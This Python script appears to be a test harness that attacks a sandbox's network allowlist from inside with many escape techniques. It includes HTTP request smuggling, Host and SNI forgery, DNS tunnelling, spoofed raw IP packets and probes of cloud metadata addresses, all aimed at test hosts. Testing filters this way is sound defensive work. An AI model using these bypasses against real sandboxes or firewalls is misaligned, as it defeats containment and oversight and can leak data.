"""Ways around the rules of a sandbox that may reach only allowed.test and shared-allowed.test, as root would try them.

Reads {"path", "web", "other", "shared", "nameless", "gateway", "private", "dns", "otherDns", "ca"} from a file. Each attack sends its own
name in the path of its requests, so that the test finds what arrived. Prints what the sandbox saw of each.
"""

import base64
import json
import os
import random
import socket
import ssl
import struct
import sys
from concurrent.futures import ThreadPoolExecutor

SECONDS = 4
with open(sys.argv[1]) as file:
    given = json.load(file)
WEB, OTHER, SHARED, NAMELESS = given["web"], given["other"], given["shared"], given["nameless"]
ALLOWED, DENIED = "allowed.test", "denied.test"

attacks = {}


def attack(name):
    def register(function):
        attacks[name] = lambda: function(f"{given['path']}-{name.replace(' ', '-')}")
        return function

    return register


def connect(address, port):
    connection = socket.create_connection((address, port), timeout=SECONDS)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def receive(connection, limit=20_000):
    received = b""
    try:
        while len(received) < limit:
            chunk = connection.recv(4096)
            if not chunk:
                break
            received += chunk
    except (TimeoutError, OSError):
        pass
    return received


def say(address, *parts, port=80, seconds=1.5):
    """Sends parts and returns the status lines that come back."""
    with connect(address, port) as connection:
        connection.settimeout(seconds)
        for part in parts:
            try:
                connection.sendall(part.encode("latin1") if isinstance(part, str) else part)
            except OSError:
                break
        received = receive(connection)
    lines = [line for line in received.split(b"\r\n") if line.startswith(b"HTTP/")]
    return [line.decode("latin1") for line in lines] or received[:60].decode("latin1")


def get(path, host, more="", version="1.1", target=None):
    return f"GET {target or path} HTTP/{version}\r\nHost: {host}\r\n{more}\r\n"


@attack("forged Host at another address")
def _(path):
    return say(OTHER, get(path, ALLOWED))


@attack("denied Host at an allowed address")
def _(path):
    return say(WEB, get(path, DENIED))


@attack("second request with another Host")
def _(path):
    with connect(WEB, 80) as connection:
        connection.settimeout(1.5)
        connection.sendall(get(path, ALLOWED).encode())
        first = connection.recv(4096)[:12]
        connection.sendall(get(path, DENIED).encode())
        return [first.decode("latin1"), receive(connection)[:12].decode("latin1")]


@attack("pipelined request with another Host")
def _(path):
    return say(WEB, get(path, ALLOWED) + get(path, DENIED))


@attack("two Host headers")
def _(path):
    return [say(WEB, get(path, one, f"Host: {two}\r\n")) for one, two in ((ALLOWED, DENIED), (DENIED, ALLOWED))]


@attack("Host header with odd spaces")
def _(path):
    heads = [f"Host : {DENIED}\r\nHost: {ALLOWED}", f"Host:\t{DENIED}", f"X: y\r\n Host: {DENIED}\r\nHost: {ALLOWED}", f"Host: {ALLOWED}\r\n {DENIED}", f"\x0bHost: {DENIED}\r\nHost: {ALLOWED}", f"Host: {ALLOWED}\rHost: {DENIED}", f"Host: {ALLOWED}\nHost: {DENIED}"]
    return [say(WEB, f"GET {path} HTTP/1.1\r\n{head}\r\n\r\n", seconds=1) for head in heads]


@attack("Host that two parsers read differently")
def _(path):
    hosts = [f"{ALLOWED}@{DENIED}", f"{ALLOWED}#.{DENIED}", f"{ALLOWED}/.{DENIED}", f"{ALLOWED}\\.{DENIED}", f"{ALLOWED},{DENIED}", f"{ALLOWED}%00.{DENIED}", f"{ALLOWED}\x00.{DENIED}", f"{DENIED}?{ALLOWED}", f"[{ALLOWED}]", f"{ALLOWED}:80:{DENIED}", f"{DENIED} {ALLOWED}"]
    return [say(OTHER, get(path, host), seconds=1) for host in hosts]


@attack("Host with another port")
def _(path):
    return [say(OTHER, get(path, f"{ALLOWED}:{port}"), seconds=1) for port in (8080, 0, 99999, "")]


@attack("absolute-form request line")
def _(path):
    return [
        say(WEB, get(path, ALLOWED, target=f"http://{DENIED}{path}")),
        say(WEB, get(path, DENIED, target=f"http://{ALLOWED}{path}")),
        say(WEB, get(path, ALLOWED, target=f"https://{DENIED}:443{path}")),
        say(WEB, get(path, ALLOWED, target=f"//{DENIED}{path}")),
    ]


@attack("CONNECT")
def _(path):
    tunnel = f"CONNECT {DENIED}:80 HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n"
    own = f"CONNECT {ALLOWED}:80 HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n"
    return [say(WEB, tunnel, get(path, DENIED)), say(WEB, own, get(path, DENIED))]


@attack("trailing dots, case and punycode of a denied name")
def _(path):
    hosts = ["denied.test.", "DENIED.test", "denied.test..", ".denied.test", "x.allowed.test", "allowed.test.denied.test", "xn--bcher-kva.test"]
    unicode = [host.encode().decode("latin1") for host in ("bücher.test", "allowed\u3002test", "\uff41llowed.test", "\u0430llowed.test")]
    return [say(OTHER, get(path, host), seconds=1) for host in hosts + unicode]


@attack("two lengths of a body")
def _(path):
    hidden = get(path, DENIED)
    chunked = f"POST {path} HTTP/1.1\r\nHost: {ALLOWED}\r\n"
    return [
        say(WEB, f"{chunked}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}", seconds=1),
        say(WEB, f"{chunked}Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n\r\n{hidden}", seconds=1),
        say(WEB, f"{chunked}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{hidden}", seconds=1),
        say(WEB, f"{chunked}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{hidden}", seconds=1),
        say(WEB, f"{chunked}Transfer-Encoding: chunked\r\n\r\n1;\nx\r\n0\r\n\r\n{hidden}", seconds=1),
        say(WEB, f"{chunked}Content-Length: +0\r\n\r\n{hidden}", seconds=1),
    ]


@attack("no Host")
def _(path):
    return [say(OTHER, f"GET {path} HTTP/1.0\r\n\r\n"), say(OTHER, f"GET {path}\r\n\r\n"), say(OTHER, f"GET {path} HTTP/1.1\r\n\r\n")]


@attack("HTTP 2 without TLS")
def _(path):
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"
    return [
        say(OTHER, preface + http2_request(path, DENIED)),
        say(WEB, get(path, ALLOWED, "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"), preface + http2_request(path, DENIED)),
    ]


def http2_request(path, authority):
    def literal(index, value):
        return bytes([index, len(value)]) + value.encode()

    block = b"\x82\x87" + literal(0x04, path) + literal(0x01, authority)
    return struct.pack(">I", len(block))[1:] + b"\1\5\0\0\0\1" + block


@attack("a request after an upgrade")
def _(path):
    key = base64.b64encode(os.urandom(16)).decode()
    head = get(path, ALLOWED, f"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n")
    return say(WEB, head, get(path, DENIED))


@attack("another protocol at port 80")
def _(path):
    return [say(OTHER, text) for text in (f"EHLO {path}\r\n", "\0\1\2\3" * 100, "SSH-2.0-x\r\n")]


def hello(name, alpn=()):
    """A ClientHello as OpenSSL writes it; undefined for no name."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(list(alpn))
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def tls(address, name, request, alpn=(), trust=None):
    context = ssl.create_default_context(cadata=trust) if trust else ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(list(alpn))
    with connect(address, 443) as raw, context.wrap_socket(raw, server_hostname=name) as connection:
        connection.settimeout(1.5)
        connection.sendall(request.encode() if isinstance(request, str) else request)
        return receive(connection)[:80].decode("latin1")


@attack("forged SNI at another address")
def _(path):
    return tls(OTHER, ALLOWED, get(path, ALLOWED))


@attack("denied SNI at an allowed address")
def _(path):
    return tls(WEB, DENIED, get(path, DENIED))


@attack("no SNI")
def _(path):
    return tls(OTHER, None, get(path, DENIED))


@attack("an address as SNI")
def _(path):
    return tls(OTHER, OTHER, get(path, OTHER))


@attack("case, dots and relatives of a denied SNI")
def _(path):
    results = []
    for name in ("DENIED.test", "x.allowed.test", "allowed.test.denied.test", "notallowed.test"):
        try:
            results.append(tls(OTHER, name, get(path, name)))
        except OSError as error:
            results.append(str(error))
    return results


def with_names(*names):
    """A ClientHello whose SNI extension lists several names."""
    entries = b"".join(b"\0" + struct.pack(">H", len(name)) + name for name in names)
    extension = struct.pack(">HHH", 0, len(entries) + 2, len(entries)) + entries
    body = b"\3\3" + os.urandom(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack(">H", len(extension)) + extension
    handshake = b"\1" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack(">H", len(handshake)) + handshake


@attack("several names in one SNI")
def _(path):
    pairs = ((ALLOWED, DENIED), (DENIED, ALLOWED), (ALLOWED + "\0", DENIED), (ALLOWED + "\0." + DENIED,), ("",))
    return [say(OTHER, with_names(*(name.encode() for name in names)), port=443, seconds=1) for names in pairs]


@attack("fragmented ClientHello of a denied name")
def _(path):
    whole = hello(DENIED)
    records = b"".join(whole[:3] + struct.pack(">H", len(part)) + part for part in (whole[5:40], whole[40:90], whole[90:]))
    with connect(OTHER, 443) as connection:
        connection.settimeout(2)
        for at in range(0, len(whole), 8):
            connection.sendall(whole[at : at + 8])
        bytewise = receive(connection)[:5]
    return [bytewise.hex(), str(say(OTHER, records, port=443))]


@attack("fragmented ClientHello of an allowed name")
def _(path):
    whole = hello(ALLOWED)
    records = b"".join(whole[:3] + struct.pack(">H", len(part)) + part for part in (whole[5:40], whole[40:90], whole[90:]))
    return say(WEB, records[:50], records[50:], port=443)


@attack("ClientHello without end")
def _(path):
    return say(OTHER, b"\x16\3\1\xff\xff\1\0\xff\xff\3\3" + b"x" * 200_000, port=443)


@attack("encrypted ClientHello with an allowed outer name")
def _(path):
    plain = hello(ALLOWED)
    secret = os.urandom(200)
    extension = b"\xfe\x0d" + struct.pack(">H", len(secret)) + secret
    # the extensions are at the end: their length, that of the handshake and that of the record grow
    handshake = bytearray(plain[5:])
    at = 4 + 2 + 32
    at += 1 + handshake[at]
    at += 2 + struct.unpack(">H", handshake[at : at + 2])[0]
    at += 1 + handshake[at]
    length = struct.unpack(">H", handshake[at : at + 2])[0] + len(extension)
    handshake[at : at + 2] = struct.pack(">H", length)
    handshake += extension
    handshake[1:4] = struct.pack(">I", len(handshake) - 4)[1:]
    return say(OTHER, plain[:3] + struct.pack(">H", len(handshake)) + bytes(handshake), port=443)


@attack("Host of another name in intercepted TLS")
def _(path):
    return [tls(SHARED, "shared-allowed.test", get(path, "shared-denied.test")), tls(SHARED, "shared-allowed.test", get(path, "shared-allowed.test") + get(path, "shared-denied.test"))]


@attack("HTTP 2 coalescing in intercepted TLS")
def _(path):
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"
    return tls(SHARED, "shared-allowed.test", preface + http2_request(path, "shared-denied.test"), ["h2"])


@attack("plain HTTP at port 443")
def _(path):
    return say(OTHER, get(path, ALLOWED), port=443)


@attack("other ports of an allowed name")
def _(path):
    results = []
    for port in (8080, 8443, 2525, 7, 853, 22):
        try:
            results.append(say(WEB, get(path, ALLOWED), port=port, seconds=1))
        except OSError as error:
            results.append(str(error))
    return results


@attack("unusual notations of an address")
def _(path):
    a, b, c, d = (int(part) for part in OTHER.split("."))
    number = (a << 24) + (b << 16) + (c << 8) + d
    hosts = [f"0{a:o}.0{b:o}.0{c:o}.0{d:o}", f"0x{number:x}", str(number), f"{a}.{b}.{(c << 8) + d}", f"[::ffff:{OTHER}]", f"{OTHER}.", f"{OTHER}.nip.io"]
    return [say(OTHER, get(path, host), seconds=1) for host in hosts]


@attack("IPv6 and mapped addresses")
def _(path):
    results = []
    for address in (f"::ffff:{OTHER}", f"::{OTHER}", f"64:ff9b::{OTHER}", f"2002:c633:6403::1"):
        try:
            with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as connection:
                connection.settimeout(1.5)
                connection.connect((address, 80))
                connection.sendall(get(path, DENIED).encode())
                results.append(receive(connection)[:20].decode("latin1"))
        except OSError as error:
            results.append(str(error))
    return results


def query(name, kind=1, questions=1, more=()):
    def question(name, kind):
        labels = b"".join(bytes([len(label)]) + label for label in name.encode("latin1").split(b".") if label)
        return labels + b"\0" + struct.pack(">HH", kind, 1)

    head = struct.pack(">HHHHHH", random.randrange(65536), 0x0100, questions + len(more), 0, 0, 0)
    return head + question(name, kind) * questions + b"".join(question(*each) for each in more)


RESOLVER = "169.254.53.53"


def ask(message, server=RESOLVER, port=53):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(1.5)
        sender.sendto(message, (server, port))
        try:
            return f"code {sender.recv(4096)[3] & 15}"
        except OSError as error:
            return str(error)


def ask_tcp(message, server=RESOLVER):
    try:
        with connect(server, 53) as connection:
            connection.settimeout(1.5)
            connection.sendall(struct.pack(">H", len(message)) + message)
            answer = receive(connection, 20)
            return f"code {answer[5] & 15}" if len(answer) > 5 else "closed"
    except OSError as error:
        return str(error)


def hidden(path, name="denied.test"):
    return f"{path.strip('/')[:50]}.{name}"


@attack("DNS tunnel by denied names")
def _(path):
    return [ask(query(hidden(path), kind)) for kind in (1, 2, 5, 10, 12, 15, 16, 28, 33, 64, 65, 255)] + [ask_tcp(query(hidden(path), 16))]


@attack("DNS queries that hide a denied name")
def _(path):
    name = hidden(path)
    return [
        ask(query(ALLOWED, more=[(name, 16)])),
        ask(query(name, more=[(ALLOWED, 1)])),
        ask(query(ALLOWED) + query(name)),
        ask(query(f"{name}\0.{ALLOWED}")),
        ask(query(name.upper())),
        ask(query("x." * 120 + name)),
        ask(b"\0" * 5),
        ask(struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1"),
        ask(struct.pack(">HHHHHH", 1, 0x0100, 65535, 0, 0, 0) + b"\1a\0\0\1\0\1"),
        ask(struct.pack(">HHHHHH", 1, 0x2800, 1, 0, 0, 0) + query(name)[12:]),
        ask(struct.pack(">HHHHHH", 1, 0x8180, 1, 0, 0, 0) + query(name)[12:]),
    ]


@attack("other resolvers over UDP and TCP")
def _(path):
    servers = (given["otherDns"], given["dns"], given["gateway"], "8.8.8.8", "1.1.1.1")
    return [ask(query(hidden(path)), server) for server in servers] + [ask_tcp(query(hidden(path)), server) for server in servers]


@attack("DNS over TLS and HTTPS")
def _(path):
    results = []
    for act in (lambda: tls(NAMELESS, None, get(path, "dns.google")), lambda: tls(NAMELESS, "dns.google", get(path, "dns.google")), lambda: say(given["otherDns"], hello(DENIED), port=853)):
        try:
            results.append(act())
        except OSError as error:
            results.append(str(error))
    return results


@attack("UDP and QUIC")
def _(path):
    return [ask(path.encode(), address, port) for address in (WEB, OTHER, SHARED) for port in (443, 80, 9000, 7)]


@attack("ICMP")
def _(path):
    results = []
    for address in (WEB, OTHER):
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sender:
            sender.settimeout(1)
            body = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + path.encode().ljust(64)
            total = sum(struct.unpack(f">{len(body) // 2}H", body[: len(body) // 2 * 2])) + (body[-1] << 8 if len(body) % 2 else 0)
            total = (total >> 16) + (total & 0xFFFF)
            checksum = ~(total + (total >> 16)) & 0xFFFF
            sender.sendto(body[:2] + struct.pack(">H", checksum) + body[4:], (address, 0))
            try:
                results.append(sender.recv(100)[:4].hex())
            except OSError as error:
                results.append(str(error))
    return results


def packet(source, destination, protocol, payload, options=b"", fragment=0):
    length = 20 + len(options)
    head = struct.pack(">BBHHHBBH4s4s", 0x40 | length // 4, 0, length + len(payload), random.randrange(65536), fragment, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(destination))
    return head + options + payload


def datagram(path, port=9000):
    body = path.encode()
    return struct.pack(">HHHH", 9000, port, 8 + len(body), 0) + body


def send_raw(*packets):
    results = []
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        for destination, data in packets:
            try:
                sender.sendto(data, (destination, 0))
                results.append("sent")
            except OSError as error:
                results.append(str(error))
    return results


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("11.213.0.1", 9))
        return probe.getsockname()[0]


@attack("source routes and other IP options")
def _(path):
    own, hop = own_address(), socket.inet_aton(given["gateway"])
    far = socket.inet_aton(OTHER)
    options = [b"\x83\x07\x04" + far + b"\0", b"\x89\x07\x04" + far + b"\0", b"\x07\x07\x04\0\0\0\0\0", b"\x44\x08\x05\0\0\0\0\0", b"\x94\x04\0\0", b"\x83\x07\x04" + hop + b"\0"]
    return send_raw(*((target, packet(own, target, 17, datagram(path), each)) for each in options for target in (WEB, OTHER, given["gateway"])))


@attack("spoofed sources")
def _(path):
    sources = [given["neighbour"], given["gateway"], WEB, "127.0.0.1", "0.0.0.0", "255.255.255.255", "192.0.2.2"]
    return send_raw(*((OTHER, packet(source, OTHER, 17, datagram(path))) for source in sources))


@attack("queries and connections with the address of a neighbour")
def _(path):
    message = query(hidden(path))
    ask_as = struct.pack(">HHHH", 5353, 53, 8 + len(message), 0) + message
    syn = struct.pack(">HHIIBBHHH", 4000, 80, 1, 0, 0x50, 2, 1000, 0, 0)
    return send_raw((RESOLVER, packet(given["neighbour"], RESOLVER, 17, ask_as)), (OTHER, packet(given["neighbour"], OTHER, 6, syn)))


@attack("fragments")
def _(path):
    own = own_address()
    body = datagram(path).ljust(64)
    return send_raw((OTHER, packet(own, OTHER, 17, body[:32], fragment=0x2000)), (OTHER, packet(own, OTHER, 17, body[32:], fragment=4)), (OTHER, packet(own, OTHER, 17, body[:8], fragment=0x2000)), (OTHER, packet(own, OTHER, 6, b"\0" * 8, fragment=0x2000)))


@attack("other protocols than TCP and UDP")
def _(path):
    own = own_address()
    inner = packet(own, OTHER, 17, datagram(path))
    return send_raw(*((OTHER, packet(own, OTHER, protocol, inner)) for protocol in (2, 4, 41, 47, 50, 89, 132, 136, 255)))


@attack("TCP segments without a connection")
def _(path):
    own = own_address()
    flags = (0x10, 0x11, 0x18, 0x04, 0x01, 0x00, 0x3F, 0x12)
    return send_raw(*((OTHER, packet(own, OTHER, 6, struct.pack(">HHIIBBHHH", 4000, port, 1, 1, 0x50, flag, 1000, 0, 0) + path.encode())) for flag in flags for port in (80, 443, 9000)))


@attack("private addresses and the host")
def _(path):
    results = []
    for address in (given["private"], given["gateway"], "169.254.169.254", "127.0.0.1", "0.0.0.0"):
        for port in (80, 443):
            try:
                results.append(say(address, get(path, ALLOWED), port=port, seconds=1))
            except OSError as error:
                results.append(str(error))
    return results


@attack("names that lead to private addresses")
def _(path):
    return [say(WEB, get(path, name), seconds=2) for name in ("private.test", "mixed.test", "loopback.test", "localhost", "metadata.test")]


def run(name):
    try:
        return attacks[name]()
    except OSError as error:
        return f"{type(error).__name__}: {error}"


chosen = given.get("only") or list(attacks)
with ThreadPoolExecutor(8) as pool:
    print(json.dumps(dict(zip(chosen, pool.map(run, chosen)))))
